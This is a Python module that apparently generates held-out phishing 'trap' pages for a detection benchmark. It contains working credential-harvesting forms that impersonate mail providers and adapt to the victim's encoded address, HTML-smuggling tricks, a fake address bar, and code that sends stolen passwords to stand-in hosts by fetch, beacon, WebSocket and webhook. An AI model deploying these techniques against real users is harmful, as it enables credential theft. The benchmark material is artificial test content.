"""Traps of this half."""

import json
from collections.abc import Callable, Iterator
from urllib.parse import parse_qs, unquote, urlsplit

from bench.pages.sites.held_out.template import KEEPER, PORTAL, application, plain
from bench.pages.sites.site import (
    ENCODINGS,
    Site,
    Web,
    around,
    at,
    attached,
    data,
    drawing,
    in_turn,
    moved,
    one,
    packed,
    provider,
    read,
    script,
    site,
)
from unhook.pages.broker import Answer, Request

_BITS = {
    "plain": "t",
    "percent": "decodeURIComponent(t)",
    "percent twice": "decodeURIComponent(decodeURIComponent(t))",
    "base64": "atob(t)",
    "base64, url-safe and unpadded": "atob(t.replaceAll('-', '+').replaceAll('_', '/'))",
    "base64 of JSON": "JSON.parse(atob(t)).e",
    "base64, one byte in": "atob(t)",
    "base64, two bytes in": "atob(t)",
    "hex": "new TextDecoder().decode(Uint8Array.from(t.match(/.{2}/g), b => parseInt(b, 16)))",
    "reversed": "[...t].reverse().join('')",
    "rot13": "t.replace(/[a-z]/g, c => 'nopqrstuvwxyzabcdefghijklm'[c.charCodeAt(0) - 97])",
    "in pieces": "new URLSearchParams(t).get('u') + '@' + new URLSearchParams(t).get('d')",
    "domain alone": "'me@' + t",
    "named": "t",
}
_SHOW = "root.replaceChildren(card(owner(who.split('@')[1]), who));"
_AT = f"{PORTAL}/view/index.html#{{}}"
_READS = "const t = new URL(location.href).hash.replace('#', ''); const who = mailbox(t); "


def sites() -> Iterator[Site]:
    """Adapting ones, then fixed ones, then by the way on which they hand over."""
    for encoding, code in _BITS.items():
        source = application(
            f"const t = new URL(location.href).hash.replace('#', ''); const who = t ? mailbox({code}) : ''; {_SHOW}"
        )
        yield _adapts("fragment", encoding, at(ENCODINGS[encoding], _AT, source))
    yield from _servers()
    yield from _asking()
    yield from _shaped()
    yield from _typed()
    yield from _fixed()
    yield from _handing()


def _adapts(place: str, variant: str, web: Callable[[str], Web], active: bool = False) -> Site:
    return site(f"adapts by {place}", variant, "trap", web, adapts=True, active=active)


def _settled(name: str, who: str) -> str:
    return application(
        f"root.append(card({json.dumps(name)}, {json.dumps(who)}));", f"{name} - secure access"
    )


def _servers() -> Iterator[Site]:
    for encoding in ("plain", "percent", "base64", "hex"):

        def of_query(request: Request, encoding: str = encoding) -> str:
            who = read(encoding, parse_qs(urlsplit(request.url).query).get("id", [""])[0])
            return _settled(provider(who), who)

        def of_path(request: Request, encoding: str = encoding) -> str:
            who = read(encoding, unquote(urlsplit(request.url).path.split("/")[2]))
            return _settled(provider(who), who)

        yield _adapts(
            "query",
            f"{encoding}, on the server",
            at(ENCODINGS[encoding], f"{PORTAL}/open?k=4&id={{}}&l=en", of_query),
            True,
        )
        if encoding != "percent":
            yield _adapts(
                "path",
                f"{encoding}, on the server",
                around(at(ENCODINGS[encoding], f"{PORTAL}/u/{{}}/start", ""), {f"{PORTAL}/u/*": of_path}),
                True,
            )

    def kept(request: Request) -> Answer:
        return data(json.dumps({"n": provider(parse_qs(urlsplit(request.url).query)["m"][0])}))

    yield _adapts(
        "fragment",
        "as its server says of the address",
        one(
            _AT,
            application(
                _READS
                + "const r = await (await fetch('/brand?m=' + who)).json(); root.append(card(r.n, who));"
            ),
            brand=kept,
        ),
        True,
    )
    hops = around(
        one("https://go.example.org/t/9#{}", moved("https://mid.example.net/j")),
        {
            "https://mid.example.net/j": moved(f"{PORTAL}/view/index.html"),
            f"{PORTAL}/view/index.html": application(_READS + _SHOW),
        },
    )
    yield _adapts("fragment", "behind two redirects", hops)


def _asking() -> Iterator[Site]:
    look = "const host = who.split('@')[1]; const seen = text => /google/i.test(text) ? 'Provider A' : /outlook|microsoft/i.test(text) ? 'Provider B' : firm(host); "
    answers = "const r = await (await fetch(`{}`)).json(); root.append(card(seen(JSON.stringify(r.Answer || [])), who));"
    for service, address in {
        "Google": "https://dns.google/resolve?name=${host}&type=15",
        "Cloudflare": "https://cloudflare-dns.com/dns-query?ct=application/dns-json&name=${host}&type=MX",
        "AliDNS": "https://dns.alidns.com/resolve?name=${host}&type=MX",
    }.items():
        yield _adapts(
            "mail exchanger",
            f"JSON of {service}",
            one(_AT, application(_READS + look + answers.format(address))),
        )
    wire = (
        "const labels = host.split('.').flatMap(l => [l.length, ...new TextEncoder().encode(l)]); "
        "const q = Uint8Array.of(0, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...labels, 0, 0, 15, 0, 1); "
    )
    yield _adapts(
        "mail exchanger",
        "wire, by POST",
        one(
            _AT,
            application(
                _READS
                + look
                + wire
                + "const r = await fetch('https://dns.google/dns-query', {method: 'POST', "
                "headers: {'content-type': 'application/dns-message'}, body: q}); "
                "root.append(card(seen(new TextDecoder('latin1').decode(await r.arrayBuffer())), who));"
            ),
        ),
    )
    shows = "const host = who.split('@')[1]; root.append(card('', who, {mark: false})); if (host) { const i = new Image(); i.height = 72; i.src = `%s`; root.firstChild.prepend(i); }"
    for service, address in {
        "logo, Clearbit": "https://logo.clearbit.com/${host}?size=200",
        "logo, logo.dev": "https://img.logo.dev/${host}?token=x",
        "favicon, gstatic": "https://t1.gstatic.com/faviconV2?client=SOCIAL&type=FAVICON&url=https://${host}&size=128",
        "favicon, icon.horse": "https://icon.horse/icon/${host}",
        "screenshot, thum.io": "https://image.thum.io/get/https://${host}",
    }.items():
        yield _adapts("picture", service, one(_AT, application(_READS + shows % address)))
    for variant, host, name in (
        ("words of its host above", "https://doc-share-online.test", "Doc share online"),
        ("a host of everybody's above", "https://quay-papers.pages.dev", "Quay papers"),
    ):
        code = (
            _READS
            + shows % "https://logo.clearbit.com/${host}"
            + f" root.prepend(h('h1', {{textContent: '{name}'}}));"
        )
        yield _adapts("picture", f"logo, {variant}", one(f"{host}/open#{{}}", application(code, name)))
    back = "const host = who.split('@')[1]; root.append(card('', who, {mark: false})); if (host) document.body.style.backgroundImage = `url(https://s0.wp.com/mshots/v1/https://www.${host}?w=1280)`;"
    yield _adapts("picture", "screenshot as the background", one(_AT, application(_READS + back)))


def _shaped() -> Iterator[Site]:
    element = (
        "customElements.define('sign-in', class extends HTMLElement { connectedCallback() { const s = this.attachShadow({mode: 'open'}); "
        "s.append(card(owner(who.split('@')[1]), who)); } }); root.append(document.createElement('sign-in'));"
    )
    yield _adapts("fragment", "in an element of its own", one(_AT, application(_READS + element)))
    yield _adapts(
        "fragment",
        "by a change of the fragment",
        one(
            _AT,
            application(
                "addEventListener('hashchange', () => { const who = mailbox(location.hash); "
                + _SHOW
                + " }); const o = location.hash; location.hash = '#/start'; setTimeout(() => { location.hash = o; }, 100);"
            ),
        ),
    )
    yield _adapts(
        "fragment",
        "from its settings by a table",
        one(
            _AT,
            application(
                _READS
                + "const d = who.split('@')[1]; const look = kept.looks[d] || {name: firm(d), tint: '#ccc'}; document.body.style.background = look.tint; root.append(card(look.name, who));",
                settings={
                    "looks": {
                        "gmail.com": {"name": "Provider A", "tint": "#cde"},
                        "outlook.com": {"name": "Provider B", "tint": "#dec"},
                    }
                },
            ),
        ),
    )
    yield _adapts(
        "fragment",
        "with a script of another host",
        around(
            one(
                _AT,
                "<!DOCTYPE html><title>Welcome</title><div id=app></div><script src=https://cdn.example.net/k.js></script>",
            ),
            {
                "https://cdn.example.net/k.js": script(
                    "document.addEventListener('DOMContentLoaded',()=>{const w=location.hash.slice(1),d=w.split('@')[1]||'',n=d=='gmail.com'?'Provider A':d=='outlook.com'?'Provider B':d;"
                    'app.innerHTML=`<h1>${n}</h1><form action=x method=post><input name=a value="${w}"><input type=password name=b><button>OK</button></form>`})'
                )
            },
        ),
    )
    yield _adapts(
        "fragment",
        "a text field with dots",
        one(
            _AT,
            application(
                _READS
                + "root.append(card(owner(who.split('@')[1]), who, {type: 'text'})); passcode.style.webkitTextSecurity = 'disc';"
            ),
        ),
    )
    yield _adapts(
        "fragment",
        "after the document is opened",
        one(
            _AT,
            application(
                _READS
                + "root.append(h('p', {textContent: 'A document was shared with you.'}), h('button', {textContent: 'View document', onclick: () => { "
                + _SHOW
                + " }}));"
            ),
        ),
    )
    yield _adapts(
        "fragment",
        "three seconds late",
        one(_AT, application(_READS + "setTimeout(() => { " + _SHOW + " }, 2500);")),
    )
    yield _adapts(
        "fragment",
        "with pictures by chance",
        one(
            _AT,
            application(
                _READS
                + _SHOW
                + "document.body.style.background = `hsl(${Math.random() * 360},70%,85%)`; root.append(h('p', {textContent: 'Tip ' + Math.ceil(Math.random() * 90)}));"
            ),
        ),
    )
    turns = [application(_READS + _SHOW, words) for words in ("Welcome", "Access", "Continue")]
    yield _adapts(
        "fragment",
        "with titles in turn",
        lambda recipient: Web(_AT.replace("{}", recipient), {f"{PORTAL}/view/index.html": in_turn(*turns)}),
    )
    yield _adapts(
        "fragment",
        "a window drawn on it",
        one(
            _AT,
            application(
                _READS
                + "const n = owner(who.split('@')[1]); root.append(h('div', {className: 'window', style: 'border:2px solid;width:34em;margin:auto'}, "
                "h('div', {className: 'titlebar', textContent: 'Sign in'}), h('div', {className: 'addressbar', textContent: 'https://' + (n == 'Provider A' ? 'accounts.provider-a.test' : n == 'Provider B' ? 'login.provider-b.test' : who.split('@')[1]) + '/login'}), card(n, who)));"
            ),
        ),
    )
    sheet = f'<div id="d"></div><script>d.innerHTML=decodeURIComponent("{"".join(f"%{byte:02x}" for byte in b"<p>Loading</p>")}")</script>'
    for how, written in {
        "plain": "'{}'",
        "base64": "atob('{}')",
        "reversed": "[...'{}'].reverse().join('')",
    }.items():
        yield _adapts(
            "attachment",
            how,
            attached(
                lambda recipient, how=how, written=written: application(  # type: ignore[misc]
                    f"const who = {written.format(ENCODINGS[how](recipient))}; {_SHOW}",
                    settings={"to": f"{KEEPER}/a"},
                    head=sheet if how == "plain" else "",
                )
            ),
        )


def _typed() -> Iterator[Site]:
    asks = "root.append(h('h2', {textContent: 'Your mail address'}), h('input', {id: 'mail', type: 'email', name: 'mail'}), h('button', {type: 'button', textContent: 'Next', onclick: () => { const who = mail.value; %s }}));"
    yield _adapts("typed address", "then repainted", one(f"{PORTAL}/open", application(asks % _SHOW)))
    yield _adapts(
        "typed address",
        "as it is typed",
        one(
            f"{PORTAL}/open",
            application(
                "root.append(card('Mail', '')); userid.oninput = () => { const who = mailbox(userid.value); if (who) document.querySelector('h2').textContent = owner(who.split('@')[1]) + ': log in'; };"
            ),
        ),
    )


def _fixed() -> Iterator[Site]:
    show = "root.append(card('Provider A', ''));"
    whole = plain(
        "Provider A",
        "<h1>Provider A: log in</h1>",
        f"<form action={KEEPER}/f method=post><input name=u><input type=password name=p><button>Go</button></form>",
    )
    yield _trap("fixed", "built by a module", one(f"{PORTAL}/a", application(show)))
    yield _trap(
        "fixed",
        "a template's copy",
        one(
            f"{PORTAL}/a",
            f"<!DOCTYPE html><title>Access</title><template id=t>{whole}</template><script>document.body.append(t.content.cloneNode(true))</script>",
        ),
    )
    yield _trap(
        "fixed",
        "a logo beside",
        one(
            f"{PORTAL}/a",
            application(
                "root.append(Object.assign(new Image(), {src: 'mark.svg', alt: 'Provider B'}), card('', '', {mark: false}));"
            ),
            **{"mark.svg": drawing("Provider B")},
        ),
    )
    yield _trap(
        "smuggled page",
        "read backwards",
        one(
            f"{PORTAL}/a",
            f"<script>document.write(atob('{packed(whole)[::-1]}'.split('').reverse().join('')))</script>",
        ),
    )
    yield _trap(
        "smuggled page",
        "object address, attached",
        attached(
            lambda _: (
                f"<script>const b=new Blob([Uint8Array.from(atob('{packed(whole)}'),c=>c.charCodeAt(0))],{{type:'text/html'}});location.href=URL.createObjectURL(b)</script>"
            )
        ),
    )
    yield _trap(
        "smuggled page",
        "a frame's own text, attached",
        attached(
            lambda _: (
                f"<iframe id=f width=800 height=600></iframe><script>f.srcdoc=atob('{packed(whole)}')</script>"
            )
        ),
    )
    yield _trap(
        "delayed form",
        "two seconds",
        one(f"{PORTAL}/a", application(f"setTimeout(() => {{ {show} }}, 2000);")),
    )
    yield _trap(
        "dressed field",
        "by a font",
        one(
            f"{PORTAL}/a",
            application(
                "root.append(card('Provider A', '', {type: 'text'})); passcode.style.cssText = '-webkit-text-security:circle'; passcode.placeholder = 'Password';"
            ),
        ),
    )


def _handing() -> Iterator[Site]:
    takes = "root.append(card('Provider B', '')); const v = () => JSON.stringify([userid.value, passcode.value]); hand = () => { %s };"
    for way, code in {
        "fetch": f"fetch('{KEEPER}/x', {{method: 'POST', body: v()}});",
        "beacon": f"navigator.sendBeacon('{KEEPER}/x', new Blob([v()]));",
        "image": f"h('img', {{src: '{KEEPER}/p.png?d=' + btoa(v())}});",
        "WebSocket": "const w = new WebSocket('wss://intake.example.net/x'); w.onopen = () => w.send(v());",
        "EventSource": f"new EventSource('{KEEPER}/x?d=' + encodeURIComponent(v()));",
        "WebSocket of a worker": "new Worker(URL.createObjectURL(new Blob([`onmessage = e => { const w = new WebSocket('wss://intake.example.net/x'); w.onopen = () => w.send(e.data); }`]))).postMessage(v());",
    }.items():
        yield _trap("sends", f"{way}, a provider's name", one(f"{PORTAL}/a", application(takes % code)))
    yield _trap(
        "sends",
        "bot",
        one(
            f"{PORTAL}/a",
            application(
                "root.append(card('Mail', '')); hand = () => fetch('https://discord.com/api/' + 'webhooks/0/inert', {method: 'POST', body: passcode.value});"
            ),
        ),
    )


def _trap(group: str, variant: str, web: Callable[[str], Web]) -> Site:
    return site(group, variant, "trap", web)
